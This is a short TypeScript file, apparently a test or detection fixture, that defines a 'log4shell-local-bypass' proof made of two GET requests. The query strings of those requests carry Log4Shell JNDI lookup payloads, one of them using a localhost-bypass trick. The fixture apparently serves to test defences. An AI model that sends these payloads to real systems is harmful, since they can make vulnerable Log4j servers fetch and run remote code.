import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'log4shell-local-bypass',
    get('/?x=${jndi:ldap://127.0.0.1#.example.com/a}'),
    get('/?x=${jndi:ldap://198.51.100.7/a#b}'),
  ),
]
